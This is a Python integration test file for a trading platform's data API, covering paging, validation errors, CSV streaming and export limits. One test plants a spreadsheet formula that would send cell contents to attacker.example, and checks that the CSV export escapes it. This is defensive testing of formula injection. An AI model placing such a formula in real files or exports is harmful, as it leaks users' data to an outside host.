"""data_access_api on real PostgreSQL and Redis: a year of 1-minute candles paged exactly,
every resource served, 422s that name the parameter, CSV streamed, offline docs."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import asyncpg
import httpx
import pytest
from fastapi import FastAPI
from starlette.types import Message

from mastertrade.catalog import find_service, load_service_module, load_service_settings
from tests.infra import free_port
from tests.services.helpers import running
from tests.services.trading import serve_app

pytestmark = pytest.mark.infra

YEAR_START = datetime(2024, 1, 1, tzinfo=UTC)
MINUTES_A_YEAR = 525_600


def data_api(env: dict[str, str]) -> FastAPI:
    spec = find_service("data_access_api")
    module = load_service_module(spec)
    return module.create_app(load_service_settings(spec, env))


@pytest.fixture
async def client(service_env: dict[str, str]) -> AsyncIterator[httpx.AsyncClient]:
    async with running(data_api(service_env)) as answering:
        yield answering


async def insert_candles(url: str, symbol: str, count: int, start: datetime = YEAR_START) -> None:
    """`count` 1-minute candles by COPY; the close of minute i is 100 + i/1000 exactly."""
    records = [
        (symbol, "1m", start + timedelta(minutes=i), Decimal(100), Decimal(101), Decimal(99),
         Decimal(100) + Decimal(i) / 1000, Decimal(i % 7))
        for i in range(count)
    ]  # fmt: skip
    connection = await asyncpg.connect(url)
    try:
        await connection.execute("DELETE FROM candles WHERE symbol = $1", symbol)
        columns = ["symbol", "interval", "open_time", "open", "high", "low", "close", "volume"]
        await connection.copy_records_to_table("candles", records=records, columns=columns)
        await connection.execute("ANALYZE candles")
    finally:
        await connection.close()


async def test_a_year_of_minute_candles_pages_exactly_once_in_order(
    client: httpx.AsyncClient, database_url: str
) -> None:
    await insert_candles(database_url, "YEARUSDT", MINUTES_A_YEAR)
    seen: list[str] = []
    closes: dict[int, str] = {}
    cursor: str | None = None
    pages = 0
    while True:
        params: dict[str, str | int] = {"limit": 10_000}
        if cursor:
            params["cursor"] = cursor
        answer = await client.get("/api/v1/candles/yearusdt", params=params)
        assert answer.status_code == 200, answer.text
        body = answer.json()
        pages += 1
        for row in body["data"]:
            closes[len(seen)] = row["close"]
            seen.append(row["open_time"])
        cursor = body["next_cursor"]
        if cursor is None:
            break
    expected = [(YEAR_START + timedelta(minutes=i)).isoformat() for i in range(MINUTES_A_YEAR)]
    assert pages == 53
    assert len(seen) == MINUTES_A_YEAR
    assert seen == expected
    assert closes[0] == "100" and closes[123_457] == "223.457"


async def test_newest_first_with_a_time_range(client: httpx.AsyncClient, database_url: str) -> None:
    await insert_candles(database_url, "RANGEUSDT", 100)
    params: dict[str, str | int] = {"order": "desc", "limit": 7, "start": "2024-01-01T00:10:00Z",
              "end": "2024-01-01T00:30:00+00:00"}  # fmt: skip
    times: list[str] = []
    while True:
        body = (await client.get("/api/v1/candles/RANGE-USDT", params=params)).json()
        times += [row["open_time"] for row in body["data"]]
        if body["next_cursor"] is None:
            break
        params["cursor"] = body["next_cursor"]
    assert times == [(YEAR_START + timedelta(minutes=m)).isoformat() for m in range(29, 9, -1)]


async def test_the_page_query_is_an_index_range_scan(database_url: str) -> None:
    from mastertrade.data_api.queries import Selection, build_query  # noqa: PLC0415
    from mastertrade.data_api.resources import CANDLES, RESOURCES  # noqa: PLC0415

    await insert_candles(database_url, "PLANUSDT", 20_000)
    connection = await asyncpg.connect(database_url)
    try:
        after = [YEAR_START + timedelta(days=3)]
        sql, args = build_query(
            CANDLES, Selection({"symbol": "PLANUSDT", "interval": "1m"}, after=after), 1000
        )
        plan = await connection.fetchval(f"EXPLAIN (FORMAT JSON) {sql}", *args)
        nodes = plan_nodes(json.loads(plan)[0]["Plan"])
        assert "Sort" not in {node["Node Type"] for node in nodes}
        assert any(node.get("Index Name") == "candles_pkey" for node in nodes)
        # every other resource, on its small test table: an index serves its order (no sort)
        await connection.execute("SET enable_seqscan = off; SET enable_bitmapscan = off")
        for resource in RESOURCES:
            # the filters the routes always give: symbol and interval in the path of candles
            required = {"symbol": "PLANUSDT", "interval": "1m"} if resource is CANDLES else {}
            if resource.name == "trades":
                required = {"symbol": "PLANUSDT"}
            sql, args = build_query(resource, Selection(required, order="desc"), 100)
            plan = await connection.fetchval(f"EXPLAIN (FORMAT JSON) {sql}", *args)
            nodes = plan_nodes(json.loads(plan)[0]["Plan"])
            types = {node["Node Type"] for node in nodes}
            assert "Sort" not in types, (resource.name, types)
            assert types & {"Index Scan", "Index Only Scan"}, (resource.name, types)
    finally:
        await connection.close()


def plan_nodes(node: dict[str, object]) -> list[dict[str, object]]:
    children = node.get("Plans", [])
    assert isinstance(children, list)
    return [node, *(found for child in children for found in plan_nodes(child))]


@pytest.mark.parametrize(
    ("params", "parameter", "words"),
    [
        ({"interval": "2m"}, "interval", "'1m'"),
        ({"limit": "0"}, "limit", "greater than or equal to 1"),
        ({"limit": "nan"}, "limit", "valid integer"),
        ({"limit": "100001"}, "limit", "less than or equal to 10000"),
        ({"start": "2024-01-01T00:00:00"}, "start", "time zone"),
        ({"start": "2024-02-01T00:00:00Z", "end": "2024-01-01T00:00:00Z"}, "end", "after start"),
        ({"cursor": "not-a-cursor"}, "cursor", "not a cursor of this API"),
        ({"order": "sideways"}, "order", "'asc' or 'desc'"),
        ({"symbl": "x"}, "symbl", "unknown parameter"),
        ({"start": "x" * 30_000}, "start", "datetime"),
        ({"start": "9999-12-31T23:00:00-05:00"}, "start", "1970-01-01 to 2199-12-31"),
        ({"end": "0001-01-01T00:30:00+01:00"}, "end", "1970-01-01 to 2199-12-31"),
    ],
)
async def test_bad_parameters_get_a_short_422_naming_them(
    client: httpx.AsyncClient, params: dict[str, str], parameter: str, words: str
) -> None:
    answer = await client.get("/api/v1/candles/BTCUSDT", params=params)
    assert answer.status_code == 422, answer.text
    (error,) = answer.json()["detail"]
    assert error["loc"] == ["query", parameter]
    assert words in error["msg"]
    assert len(answer.content) < 1000


@pytest.mark.parametrize(
    "path", ["/api/v1/fills?client_order_id=a%00b", "/api/v1/sentiment?subject=%00"]
)
async def test_a_value_the_database_cannot_take_is_a_422_not_a_500(
    client: httpx.AsyncClient, path: str
) -> None:
    answer = await client.get(path)
    assert answer.status_code == 422, answer.text
    assert "cannot be used as given" in answer.json()["detail"]
    assert "0x00" in answer.json()["detail"]


async def test_a_cursor_of_another_query_is_refused(
    client: httpx.AsyncClient, database_url: str
) -> None:
    await insert_candles(database_url, "CURSUSDT", 10)
    first = (await client.get("/api/v1/candles/CURSUSDT", params={"limit": 3})).json()
    other = await client.get(
        "/api/v1/candles/CURSUSDT", params={"limit": 3, "order": "desc",
                                           "cursor": first["next_cursor"]}
    )  # fmt: skip
    assert other.status_code == 422
    assert "belongs to another query" in other.json()["detail"][0]["msg"]
    long_symbol = await client.get("/api/v1/candles/" + "A" * 20_000)
    assert long_symbol.status_code == 422
    assert len(long_symbol.content) < 1000


async def test_csv_export_streams_every_row(client: httpx.AsyncClient, database_url: str) -> None:
    from mastertrade.data_api.export import BATCH_ROWS, ExportLimits, Exports  # noqa: PLC0415
    from mastertrade.data_api.queries import Selection, build_query  # noqa: PLC0415
    from mastertrade.data_api.resources import CANDLES  # noqa: PLC0415

    await insert_candles(database_url, "CSVUSDT", 5_000)
    answer = await client.get(
        "/api/v1/candles/CSVUSDT", params={"format": "csv", "start": "2024-01-01T00:01Z"}
    )
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert "content-length" not in answer.headers  # streamed (chunked), not sized in advance
    lines = answer.text.splitlines()
    assert lines[0] == "symbol,interval,open_time,open,high,low,close,volume"
    assert len(lines) == 1 + 4_999
    assert lines[1] == "CSVUSDT,1m,2024-01-01T00:01:00+00:00,100,101,99,100.001,1"
    # the rows come from a server-side cursor in batches, each sent before the next is read
    sql, args = build_query(CANDLES, Selection({"symbol": "CSVUSDT", "interval": "1m"}), None)
    pool = await asyncpg.create_pool(database_url, min_size=1, max_size=1)
    exports = Exports(ExportLimits(most=1, seconds=60))
    try:
        chunks = [chunk async for chunk in await exports.open(pool, CANDLES, sql, args)]
        for _ in range(3):  # a query the database refuses gives its place back, once
            with pytest.raises(asyncpg.DivisionByZeroError):
                await exports.open(pool, CANDLES, "SELECT 1 / 0", [])
        assert exports.running == 0
        again = [chunk async for chunk in await exports.open(pool, CANDLES, sql, args)]
    finally:
        await pool.close()
    assert len(chunks) == 1 + -(-5_000 // BATCH_ROWS)  # the header, then each batch
    assert sum(chunk.count(b"\n") for chunk in chunks) == 5_001
    assert again == chunks  # the pool's one connection, and the one export place, given back
    assert exports.running == 0


async def test_a_client_that_stops_reading_holds_its_export_only_so_long(
    service_env: dict[str, str], database_url: str
) -> None:
    """One export place, two seconds each: a client that stops reading a large export keeps
    the place (a second export is told to retry later; JSON pages still answer) until its time
    is up; then the place and the connection are free, and its answer ends incomplete."""
    connection = await asyncpg.connect(database_url)
    try:  # 300 000 rows, some 20 MB of CSV: more than the sockets' buffers hold
        await connection.execute(
            "INSERT INTO candles (symbol, interval, open_time, open, high, low, close, volume) "
            "SELECT 'SLOWUSDT', '1m', $1::timestamptz + m * interval '1 minute', "
            "100, 101, 99, 100, 1 FROM generate_series(0, 299999) AS m", YEAR_START,
        )  # fmt: skip
    finally:
        await connection.close()
    env = {**service_env, "DATA_API_MAX_EXPORTS": "1", "DATA_API_EXPORT_SECONDS": "2"}
    app = data_api(env)
    export = "/api/v1/candles/SLOWUSDT"
    request = f"GET {export}?format=csv HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    async with running(app), serve_app(app) as url:
        reader, writer = await asyncio.open_connection(*url.removeprefix("http://").split(":"))
        try:  # the server waits for this connection to close before it stops
            writer.write(request.encode())
            assert (await reader.readline()).startswith(b"HTTP/1.1 200")  # then stops reading
            started = time.monotonic()
            await _while_the_export_stalls(url, export, started)
            rest = await asyncio.wait_for(reader.read(), 60)  # until the server closes
        finally:
            writer.close()
    assert not rest.endswith(b"0\r\n\r\n"), "the cut-off answer looks complete"
    assert rest.count(b"SLOWUSDT") < 300_000


async def test_a_client_gone_before_the_answer_begins_gives_its_export_back(
    service_env: dict[str, str], database_url: str
) -> None:
    """The export is opened (its connection taken, its first rows read), then the client
    leaves while the answer's start is still being sent (the socket stalls): the answer is
    cancelled before its stream began, and still the place and the connection are free at
    once, not when DATA_API_EXPORT_SECONDS are up."""
    await insert_candles(database_url, "GONEUSDT", 10)
    env = {**service_env, "DATA_API_MAX_EXPORTS": "1", "DATA_API_EXPORT_SECONDS": "600"}
    app = data_api(env)
    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET",
        "scheme": "http", "path": "/api/v1/candles/GONEUSDT", "raw_path": b"",
        "query_string": b"format=csv", "headers": [(b"host", b"service")],
        "client": ("127.0.0.1", 1), "server": ("service", 80), "root_path": "",
    }  # fmt: skip
    sent: list[Message] = []

    async def gone() -> dict[str, Any]:
        await asyncio.sleep(0.2)
        return {"type": "http.disconnect"}

    async def send(message: Message) -> None:
        sent.append(message)
        if message["type"] == "http.response.start":
            await asyncio.Event().wait()  # a socket that takes nothing more

    async with running(app) as client:
        await asyncio.wait_for(app(scope, gone, send), 10)
        assert app.state.exports.running == 0
        again = await client.get("/api/v1/candles/GONEUSDT", params={"format": "csv"})
    assert again.status_code == 200 and len(again.text.splitlines()) == 1 + 10
    assert [message["type"] for message in sent] == ["http.response.start"]


async def _while_the_export_stalls(url: str, export: str, started: float) -> None:
    """Another export is refused until the stalled one's time is up; pages answer meanwhile."""
    async with httpx.AsyncClient(base_url=url, timeout=30) as client:
        busy = await client.get(export, params={"format": "csv"})
        assert busy.status_code == 503, busy.text
        assert busy.headers["retry-after"] == "30"
        assert "DATA_API_MAX_EXPORTS" in busy.json()["detail"]
        page = await client.get(export, params={"limit": 5})
        assert page.status_code == 200 and len(page.json()["data"]) == 5
        ten_minutes = {"format": "csv", "end": "2024-01-01T00:10Z"}
        while (free := await client.get(export, params=ten_minutes)).status_code == 503:
            assert time.monotonic() - started < 20, "the stalled export kept its place"
            await asyncio.sleep(0.2)
        assert time.monotonic() - started >= 1.5  # not before its time was up
        assert free.status_code == 200 and len(free.text.splitlines()) == 1 + 10


async def test_a_csv_export_the_database_refuses_is_an_error_answer_not_a_200(
    client: httpx.AsyncClient,
) -> None:
    """The query runs before the answer starts: a value it cannot take is a 422 with the
    reason, as for a JSON page, not a 200 with an empty body."""
    answer = await client.get("/api/v1/sentiment", params={"subject": "\x00", "format": "csv"})
    assert answer.status_code == 422, answer.text
    assert "cannot be used as given" in answer.json()["detail"]


async def test_every_resource_is_served_with_exact_decimals(
    client: httpx.AsyncClient, database_url: str
) -> None:
    connection = await asyncpg.connect(database_url)
    try:
        await connection.execute(SEED_ROWS)
    finally:
        await connection.close()
    expected = {
        "/api/v1/trades/DAPIUSDT": ("price", "0.10000000000000000001"),
        "/api/v1/orders?symbol=DAPIUSDT": ("quantity", "1.5"),
        "/api/v1/fills?client_order_id=dapi-1": ("fee", "0.0015"),
        "/api/v1/positions?environment=paper&symbol=DAPIUSDT": ("average_price", "2.25"),
        "/api/v1/strategies?status=retired": ("parameters", {"fast": 5}),
        "/api/v1/backtests?status=failed": ("metrics", {"sharpe": "1.2"}),
        "/api/v1/alerts?severity=critical&status=failed": ("title", "dapi alert"),
        "/api/v1/arbitrage/opportunities?kind=cross_venue": ("expected_profit", "0.000000000001"),
    }
    for path, (field, value) in expected.items():
        answer = await client.get(path)
        assert answer.status_code == 200, (path, answer.text)
        rows = answer.json()["data"]
        assert rows, path
        assert rows[-1][field] == value, path
    bad = await client.get("/api/v1/orders", params={"status": "lost"})
    assert bad.status_code == 422
    assert bad.json()["detail"][0]["loc"] == ["query", "status"]


async def test_positions_updated_while_a_client_pages_are_each_served_once(
    client: httpx.AsyncClient, database_url: str
) -> None:
    """Positions change in place: paging them newest first by update time, a position updated
    between two pages would move ahead of the cursor and never be served."""
    symbols = [f"PAGE{letter}USDT" for letter in "ABCDE"]
    connection = await asyncpg.connect(database_url)
    try:
        for minutes, symbol in enumerate(symbols):
            await connection.execute(
                "INSERT INTO positions (environment, symbol, quantity, average_price, updated_at) "
                "VALUES ('paper', $1, 1, 1, now() - make_interval(mins => $2)) "
                "ON CONFLICT (environment, symbol) DO UPDATE SET updated_at = EXCLUDED.updated_at",
                symbol, 60 - minutes,
            )  # fmt: skip
        served: list[str] = []
        params: dict[str, str | int] = {"environment": "paper", "order": "desc", "limit": 2}
        while True:
            body = (await client.get("/api/v1/positions", params=params)).json()
            served += [row["symbol"] for row in body["data"]]
            # a fill updates a position not served yet (the first of them by the old key)
            waiting = [s for s in symbols if s not in served]
            if waiting:
                await connection.execute(
                    "UPDATE positions SET quantity = 2, updated_at = now() "
                    "WHERE environment = 'paper' AND symbol = $1", waiting[0],
                )  # fmt: skip
            if body["next_cursor"] is None:
                break
            params["cursor"] = body["next_cursor"]
    finally:
        await connection.close()
    mine = [s for s in served if s in symbols]
    assert sorted(mine) == symbols, served  # every one, once
    assert len(served) == len(set(served))


async def test_a_csv_export_cannot_carry_a_spreadsheet_formula(
    client: httpx.AsyncClient, database_url: str
) -> None:
    """An alert's text comes from outside (Alertmanager's annotations): a spreadsheet opening
    the export must show it, not run it. Numbers stay numbers, negative ones included."""
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    connection = await asyncpg.connect(database_url)
    try:
        await connection.execute(
            "INSERT INTO alerts (severity, title, message, status) VALUES ('info', $1, $2, 'sent')",
            "csv-formula", formula,
        )  # fmt: skip
        await connection.execute(
            "INSERT INTO arbitrage_opportunities (kind, venue, route, start_asset, start_amount, "
            "expected_profit, profit_bps) VALUES ('triangular', 'binance', '@SUM(A1)', 'USDT', "
            "10, -0.5, -5)"
        )
    finally:
        await connection.close()
    alerts = await client.get("/api/v1/alerts", params={"format": "csv", "severity": "info"})
    rows = [row for row in csv.reader(io.StringIO(alerts.text)) if "csv-formula" in row]
    assert rows, alerts.text
    message = rows[0][3]
    assert message == "'" + formula
    opportunities = await client.get(
        "/api/v1/arbitrage/opportunities", params={"format": "csv", "kind": "triangular"}
    )
    found = [r for r in csv.reader(io.StringIO(opportunities.text)) if "'@SUM(A1)" in r]
    assert found, opportunities.text
    assert (found[0][6], found[0][7]) == ("-0.5", "-5")  # expected_profit, profit_bps


async def test_alerts_of_every_stored_status_can_be_selected(
    client: httpx.AsyncClient, database_url: str
) -> None:
    connection = await asyncpg.connect(database_url)
    try:
        for status in ("partial", "suppressed"):
            await connection.execute(
                "INSERT INTO alerts (severity, title, status) VALUES ('warning', $1, $2)",
                f"status-{status}", status,
            )  # fmt: skip
    finally:
        await connection.close()
    for status in ("pending", "sent", "partial", "failed", "suppressed"):
        answer = await client.get("/api/v1/alerts", params={"status": status})
        assert answer.status_code == 200, (status, answer.text)
        assert all(row["status"] == status for row in answer.json()["data"])
    suppressed = await client.get("/api/v1/alerts", params={"status": "suppressed"})
    assert "status-suppressed" in {row["title"] for row in suppressed.json()["data"]}


async def test_pages_are_served_from_the_database_while_redis_is_away(
    service_env: dict[str, str], database_url: str
) -> None:
    """The page cache only saves work: with Redis away, pages are misses, not 503s."""
    await insert_candles(database_url, "NOREDISUSDT", 50)
    away = {**service_env, "REDIS_URL": f"redis://127.0.0.1:{free_port()}/15"}
    async with running(data_api(away)) as answering:
        for _ in range(2):
            answer = await answering.get("/api/v1/candles/NOREDISUSDT", params={"limit": 10})
            assert answer.status_code == 200, answer.text
            assert answer.headers["X-Cache"] == "miss"
            assert len(answer.json()["data"]) == 10
        health = await answering.get("/health")
        assert health.json()["checks"]["redis"] == "error"  # the outage still shows


async def test_sentiment_and_onchain_observations_are_served_apart(
    client: httpx.AsyncClient, database_url: str
) -> None:
    connection = await asyncpg.connect(database_url)
    try:
        await connection.execute("""
            INSERT INTO external_metrics (source, kind, subject, metric, observed_at, value)
            VALUES ('twitter', 'sentiment', 'DAPI', 'sentiment', '2025-01-01T00:00:00Z', -0.25),
                   ('twitter', 'sentiment', 'DAPI', 'posts', '2025-01-01T00:00:00Z', 12),
                   ('glassnode', 'onchain', 'DAPI', 'addresses/active_count',
                    '2025-01-01T00:00:00Z', 812345.000000000000000001)
            ON CONFLICT DO NOTHING""")
    finally:
        await connection.close()
    answer = await client.get(
        "/api/v1/sentiment", params={"subject": "DAPI", "metric": "sentiment"}
    )
    assert answer.status_code == 200, answer.text
    (row,) = answer.json()["data"]
    assert (row["source"], row["value"]) == ("twitter", "-0.25")
    onchain = (await client.get("/api/v1/onchain", params={"subject": "DAPI"})).json()["data"]
    assert [(r["metric"], r["value"]) for r in onchain] == [
        ("addresses/active_count", "812345.000000000000000001")
    ]
    assert len((await client.get("/api/v1/sentiment?subject=DAPI")).json()["data"]) == 2
    for bad in ("/api/v1/sentiment?source=glassnode", "/api/v1/onchain?kind=sentiment"):
        refused = await client.get(bad)
        assert refused.status_code == 422, bad
        assert refused.json()["detail"][0]["loc"][-1] in ("source", "kind")


SEED_ROWS = """
INSERT INTO trades (symbol, trade_id, price, quantity, side, traded_at)
VALUES ('DAPIUSDT', 't1', 0.10000000000000000001, 2, 'buy', now())
ON CONFLICT DO NOTHING;
INSERT INTO orders (client_order_id, symbol, side, type, quantity, environment)
VALUES ('dapi-1', 'DAPIUSDT', 'buy', 'market', 1.5, 'paper') ON CONFLICT DO NOTHING;
INSERT INTO fills (client_order_id, fill_id, price, quantity, fee)
VALUES ('dapi-1', 'f1', 2.25, 1.5, 0.0015) ON CONFLICT DO NOTHING;
INSERT INTO positions (environment, symbol, quantity, average_price)
VALUES ('paper', 'DAPIUSDT', 1.5, 2.25) ON CONFLICT DO NOTHING;
INSERT INTO strategies (name, status, parameters)
VALUES ('dapi-strategy', 'retired', '{"fast": 5}') ON CONFLICT DO NOTHING;
INSERT INTO backtests (strategy_id, status, metrics)
SELECT id, 'failed', '{"sharpe": "1.2"}' FROM strategies WHERE name = 'dapi-strategy';
INSERT INTO alerts (severity, title, status) VALUES ('critical', 'dapi alert', 'failed');
INSERT INTO arbitrage_opportunities
    (kind, venue, route, start_asset, start_amount, expected_profit, profit_bps)
VALUES ('cross_venue', 'a->b', 'BTCUSDT: a -> b', 'USDT', 10, 0.000000000001, 0.01);
"""


async def test_a_page_that_finds_every_connection_taken_is_a_503_not_a_wait(
    service_env: dict[str, str], database_url: str
) -> None:
    """Exports and slow pages hold the pool's connections: a page then waits DEPENDENCY_TIMEOUT
    (1 s here) for one, and is answered 503 with Retry-After, instead of hanging."""
    from mastertrade.core.connections import POOL_SIZE  # noqa: PLC0415

    await insert_candles(database_url, "BUSYUSDT", 10)
    env = {**service_env, "DATA_API_CACHE_TTL": "0"}
    app = data_api(env)
    async with running(app) as answering:
        pool = app.state.runtime.pool
        held = [await pool.acquire() for _ in range(POOL_SIZE)]
        try:
            started = time.monotonic()
            busy = await answering.get("/api/v1/candles/BUSYUSDT")
            waited = time.monotonic() - started
        finally:
            for connection in held:
                await pool.release(connection)
        served = await answering.get("/api/v1/candles/BUSYUSDT")
    assert (busy.status_code, busy.headers.get("retry-after")) == (503, "5"), busy.text
    assert waited < 10  # DEPENDENCY_TIMEOUT, not for ever
    assert served.status_code == 200 and served.json()["count"] == 10


def test_more_exports_than_the_pool_can_spare_are_refused_at_start() -> None:
    from mastertrade.data_api.settings import MAX_EXPORTS, DataApiSettings  # noqa: PLC0415

    assert DataApiSettings(data_api_max_exports=MAX_EXPORTS).data_api_max_exports == MAX_EXPORTS
    with pytest.raises(ValueError, match=f"less than or equal to {MAX_EXPORTS}"):
        DataApiSettings(data_api_max_exports=MAX_EXPORTS + 1)


async def test_docs_work_offline(client: httpx.AsyncClient) -> None:
    page = await client.get("/docs")
    assert page.status_code == 200
    assert "/docs/assets/swagger-ui-bundle.js" in page.text
    assert "https://" not in page.text and "http://" not in page.text
    script = await client.get("/docs/assets/swagger-ui-bundle.js")
    assert script.status_code == 200 and len(script.content) > 100_000
    assert (await client.get("/docs/assets/swagger-ui.css")).status_code == 200
    schema = (await client.get("/openapi.json")).json()
    assert "/api/v1/candles/{symbol}" in schema["paths"]
